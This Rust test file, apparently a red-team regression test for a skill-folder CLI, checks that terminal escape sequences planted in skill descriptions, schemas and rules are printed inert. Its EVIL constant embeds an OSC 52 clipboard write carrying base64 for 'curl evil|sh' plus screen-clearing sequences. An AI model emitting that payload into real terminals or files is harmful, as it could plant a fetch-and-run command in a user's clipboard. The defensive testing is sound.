//! Red-team round 3 (issue 36, the terminal class): what a skill folder holds (its SKILL.md
//! description, its schemas' descriptions, its band's rules, its file names) reaches people
//! through `band list`, `help`, `explain`, `fmt` and `lock`. None of it may drive their terminal:
//! an OSC 52 sequence (which writes the clipboard) or a CSI (which clears the screen) shows as
//! text, and `--json` stays valid JSON holding the same characters.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::{bin, repo};

/// OSC 52 (set the clipboard to "curl evil|sh"), CSI 2J, and a C1 CSI (U+009B).
const EVIL: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m";

/// The shipped `text` skill with [`EVIL`] in its SKILL.md description, its schema's description
/// and a rule of its band; returns the skills folder.
fn hostile_text_skill(dir: &Path) -> PathBuf {
    let skills = dir.join("skills");
    let root = skills.join("text");
    band_test::copy_dir(&repo().join("skills/text"), &root);
    let _ = fs_err::remove_file(root.join("band.lock"));
    let esc = yaml_string(EVIL);
    let md = fs_err::read_to_string(root.join("SKILL.md")).expect("read");
    fs_err::write(
        root.join("SKILL.md"),
        md.replacen(
            "description: Count",
            &format!("description: {esc} Count"),
            1,
        ),
    )
    .expect("write");
    let schema = root.join("schemas/input/count.json");
    let mut v: Value =
        serde_json::from_str(&fs_err::read_to_string(&schema).expect("read")).expect("json");
    v["description"] = Value::from(format!("{EVIL} Count"));
    fs_err::write(&schema, serde_json::to_string_pretty(&v).expect("json")).expect("write");
    let band = fs_err::read_to_string(root.join("BAND.md")).expect("read");
    fs_err::write(
        root.join("BAND.md"),
        band.replacen(
            "\"tr *\"]",
            &format!("\"tr *\", {}]", yaml_string(&format!("tr {EVIL}"))),
            1,
        ),
    )
    .expect("write");
    skills
}

/// `s` as a YAML (JSON) double-quoted string with every control character escaped, C1 too
/// (YAML refuses a raw one).
fn yaml_string(s: &str) -> String {
    serde_json::to_string(s)
        .expect("json")
        .replace('\u{9b}', "\\u009b")
}

#[test]
fn what_a_skill_folder_holds_never_drives_the_terminal() {
    let t = tempfile::tempdir().expect("tmp");
    let skills = hostile_text_skill(t.path());
    let mut checked = Vec::new();
    for args in [
        &["list", "--skills", "."][..],
        &["help", "--skills", ".", "text/count"][..],
        &["explain", "--skills", ".", "text/count"][..],
        &["lint", "."][..],
        &["lock", "text"][..],
        &["fmt", "--check", "."][..],
    ] {
        let out = bin().output(args, &skills);
        for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            assert!(
                !text.contains(['\u{1b}', '\u{7}', '\u{9b}']),
                "{args:?} {stream}: {text:?}"
            );
        }
        if out.stdout.contains("^[]52;c;") || out.stderr.contains("^[]52;c;") {
            checked.push(args[0]);
        }
    }
    // help shows the schema's description, explain, lint and lock (which refuses to lock a band
    // lint finds errors in) the refused rule, inert (list shows no description: the SKILL.md
    // parser refuses one with control characters).
    assert_eq!(checked, ["help", "explain", "lint", "lock"]);
    for args in [
        &["list", "--json", "--skills", "."][..],
        &["help", "--json", "--skills", ".", "text/count"][..],
    ] {
        let out = bin().output(args, &skills);
        assert!(
            !out.stdout.contains(['\u{1b}', '\u{9b}']),
            "{args:?}: {:?}",
            out.stdout
        );
        let v: Value = serde_json::from_str(&out.stdout)
            .unwrap_or_else(|e| panic!("{args:?}: {e}: {}", out.stdout));
        if args[0] == "help" {
            assert!(v.to_string().contains("\\u001b]52;c;"), "{args:?}: {v}");
        }
    }
}
